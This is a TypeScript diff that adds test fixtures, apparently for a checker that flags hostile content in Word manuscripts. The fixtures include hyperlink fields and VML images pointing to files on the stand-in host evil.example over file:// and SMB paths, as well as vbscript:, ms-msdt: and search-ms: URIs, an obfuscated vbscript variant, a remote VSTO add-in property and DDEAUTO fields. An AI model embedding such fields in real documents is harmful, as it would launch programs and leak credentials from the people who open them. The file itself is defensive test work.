@@ -12,6 +12,51 @@ const starts = 'starts a program'
 const deleted = (text: string) => field([text]).replaceAll('instrText', 'delInstrText')
 const share = '"\\\\\\\\evil.example\\\\s\\\\x.png"'
 
+const linking = [
+	'"file:////evil.example/s/x.exe"',
+	'"\\\\\\\\evil.example\\\\s\\\\x.docx"',
+	'"\\\\evil.example\\s\\x.docx"',
+	'\\\\evil.example\\s\\x.docx',
+	'"C:\\\\Windows\\\\System32\\\\calc.exe"',
+	'"search-ms:query=a&amp;crumb=location:x"',
+	'"vbscript:x"',
+	'"ms-msdt:/id x"',
+	'"smb://evil.example/s"',
+	'“v%62script:x”',
+	'\\h \\o "a tip" "vbscript:x"',
+	'\\l place \\t "_blank" vbscript:x',
+	`"vbscript:${'a'.repeat(20_000)}"`,
+]
+/** A part beside the text. */
+const inPart = (name: string, part: string, data: string, why: string): HostileManuscript => ({
+	name,
+	make: () => manuscript([{ name: part, data }]),
+	why,
+})
+const vml = (attributes: string) =>
+	`<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="o"><v:imagedata ${attributes}/></v:shape></w:pict></w:r></w:p>`
+const property = (name: string) =>
+	`<Properties xmlns="p"><property fmtid="{0}" pid="2" name="${name}"><lpwstr>https://evil.example/x.vsto|1</lpwstr></property></Properties>`
+
+/** Addresses outside of relations, and add-ins that belong to a document. */
+export const hostileAddresses: HostileManuscript[] = [
+	...linking.map((address) =>
+		inText(`a link field: ${address.slice(0, 50)}`, field([` HYPERLINK ${address} `]), starts),
+	),
+	inText('a link field in a simple field', simpleField('HYPERLINK &quot;file:////evil.example/x.exe&quot;'), starts),
+	inText('a link field, letter by letter', field([...' HYPERLINK "vbscript:x" ']), starts),
+	inText('a drawing with a picture on a share', vml('src="\\\\evil.example\\x.png"')),
+	inText('a drawing with a link to a picture on a share', vml('o:href="file://evil.example/x.png"')),
+	inPart('an add-in of the document', 'docProps/custom.xml', property('_AssemblyLocation'), starts),
+	inPart('the name of an add-in', 'docProps/custom.xml', property(' _assemblyname '), starts),
+	inPart(
+		'a base of links on a share',
+		'docProps/app.xml',
+		'<Properties xmlns="p"><HyperlinkBase>\\\\evil.example\\s\\</HyperlinkBase></Properties>',
+		'links lead to a share',
+	),
+]
+
 /** Fields that start or load something when a reader of the document updates them. */
 export const hostileFields: HostileManuscript[] = [
 	inText('DDEAUTO in a simple field', simpleField(`DDEAUTO ${program.replaceAll('"', '&quot;')}`), starts),
